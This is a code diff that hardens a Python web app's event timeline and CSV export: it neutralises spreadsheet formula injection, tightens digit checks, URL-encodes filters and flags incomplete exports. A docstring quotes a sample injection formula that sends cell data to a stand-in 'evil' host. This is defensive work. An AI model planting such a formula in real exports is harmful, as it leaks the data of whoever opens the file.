@@ -5,9 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+import logging
 from collections.abc import AsyncIterator
 from datetime import datetime
 from typing import Any
+from urllib.parse import urlencode
 from zoneinfo import ZoneInfo
 
 from starlette.requests import Request
@@ -24,6 +26,8 @@ from hub.web.session import console, require
 from hub.web.views import HTML_HEADERS, page, words
 from protocol.times import format_time
 from protocol.topics import valid_id
+
+log = logging.getLogger(__name__)
 
 PEOPLE = tuple(sorted(GROUPS["people"]))
 
@@ -87,6 +91,21 @@ async def sites(request: Request) -> Response:
     return page(request, template, {"cards": cards})
 
 
+#: a cell starting with one of these is a formula to Excel, LibreOffice and Sheets
+FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def spreadsheet_safe(*cells: object) -> list[object]:
+    """CSV cells a spreadsheet shows as text, never runs.
+
+    An event's type, an order id, a staff name or a reason can be chosen by
+    whoever published the event (``=HYPERLINK("https://evil/?"&A1)``): such a
+    cell gets a leading ``'`` (OWASP's advice), so the owner who opens the
+    export sees the text and nothing is fetched or run.
+    """
+    return ["'" + c if isinstance(c, str) and c.startswith(FORMULA_LEAD) else c for c in cells]
+
+
 def _filters(request: Request, site: str) -> tuple[Range, dict[str, str], dict[str, str]]:
     """The timeline's range and filters from the query; errors by field."""
     c = ctx(request)
@@ -119,6 +138,7 @@ def _timeline(c: AppContext, site: str, rng: Range, values: dict[str, str], befo
         section = c.cfg.site(site)
         if (
             section
+            and values["order"].isascii()
             and values["order"].isdigit()
             and len(values["order"]) == section.pickup_no_width
         ):
@@ -160,7 +180,7 @@ async def timeline(request: Request) -> Response:
     before = None
     raw = request.query_params.get("before", "")
     ts, _, seq = raw.partition(",")
-    if raw and seq.isdigit() and len(ts) == 20 and len(seq) < 17:
+    if raw and seq.isascii() and seq.isdigit() and len(ts) == 20 and len(seq) < 17:
         before = (ts, int(seq))
     lines, more = [], None
     if not errors:
@@ -175,7 +195,8 @@ async def timeline(request: Request) -> Response:
         "errors": errors,
         "groups": list(GROUPS),
         "range_text": f"{local_time(c.cfg, site, rng.start)} – {local_time(c.cfg, site, rng.end)}",
-        "csv_query": "&".join(f"{k}={v}" for k, v in values.items() if v),
+        # the filters as typed, encoded (an order box holding "x&type=..." stays one value)
+        "csv_query": urlencode({k: v for k, v in values.items() if v}),
     }
     template = "_timeline.html" if request.headers.get("hx-request") else "timeline.html"
     return page(request, template, data, status=422 if errors else 200)
@@ -210,7 +231,7 @@ async def timeline_csv(request: Request) -> Response:
             line = describe(r, orders, t, tz)
             detail = json.loads(bytes(r["body"])).get("detail", {})
             w.writerow(
-                [
+                spreadsheet_safe(
                     site,
                     r["seq"],
                     r["ts"],
@@ -221,7 +242,7 @@ async def timeline_csv(request: Request) -> Response:
                     line.text,
                     json.dumps(detail, ensure_ascii=False, sort_keys=True),
                     r["hash"],
-                ]
+                )
             )
         nxt = (str(rows[-1]["ts"]), int(rows[-1]["seq"])) if len(rows) == 1000 else None
         return out.getvalue(), nxt
@@ -231,7 +252,12 @@ async def timeline_csv(request: Request) -> Response:
         yield ("\ufeff" + header + "\r\n").encode()
         before: tuple[str, int] | None = None
         while True:
-            text, before = await c.runner.call(chunk, before)
+            try:
+                text, before = await c.runner.call(chunk, before)
+            except Exception:  # the status line is gone: say so in the file, never cut it short
+                log.exception("the CSV export of %s failed part-way", site)
+                yield f"{t('tl.csv_incomplete')}\r\n".encode()
+                return
             yield text.encode("utf-8")
             if before is None:
                 return
@@ -251,7 +277,7 @@ async def event(request: Request) -> Response:
     await require(request)
     site = site_param(request)
     raw = str(request.path_params["seq"])
-    if not raw.isdigit() or len(raw) > 16:
+    if not (raw.isascii() and raw.isdigit()) or len(raw) > 16:
         raise RequestError(words(request)("error.http_404"), "seq", 404)
     c = ctx(request)
     con = console(request)
